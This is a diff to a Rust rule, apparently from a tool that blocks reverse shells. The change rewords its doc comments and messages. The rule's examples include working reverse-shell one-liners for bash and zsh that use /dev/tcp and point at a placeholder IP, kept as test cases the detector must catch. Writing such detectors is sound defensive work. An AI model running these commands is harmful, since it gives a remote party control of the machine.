@@ -7,13 +7,15 @@ use super::named;
 use crate::kit::{Words, first, rule};
 
 rule! {
-    /// Stops a shell that is wired to a connection: whoever holds the other end owns this machine.
+    /// Blocks reverse shells.
+    ///
+    /// A shell that is connected to the network gives the other end control of this machine.
     ///
     /// ## Instead
-    /// There is no use of this in development. For a remote shell, the person starts `ssh`.
+    /// Leave it. If a remote shell is needed, the person starts `ssh`.
     pub struct ReverseShell;
     id: "reverse-shell", pack: Exfiltration, level: Deny,
-    person: "there is no use of this in development; for a remote shell the person starts ssh",
+    person: "Development needs no reverse shell. For a remote shell, the person starts ssh.",
     examples: [
         hit Shell("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
         hit Shell("zsh -i <>/dev/tcp/192.0.2.1/1 >&0"),
@@ -53,8 +55,8 @@ impl Rule for ReverseShell {
                 if carries.iter().any(|what| what == phrase::SHELL) || code.wires(effect.span) =>
             {
                 Words::new(
-                    format!("gives {} control over a shell of this machine", named(host)),
-                    "leave it; a person who needs a remote shell starts one",
+                    format!("gives {} control of a shell on this machine", named(host)),
+                    "leave it. If a remote shell is needed, the person starts it",
                 )
             }
             _ => None,
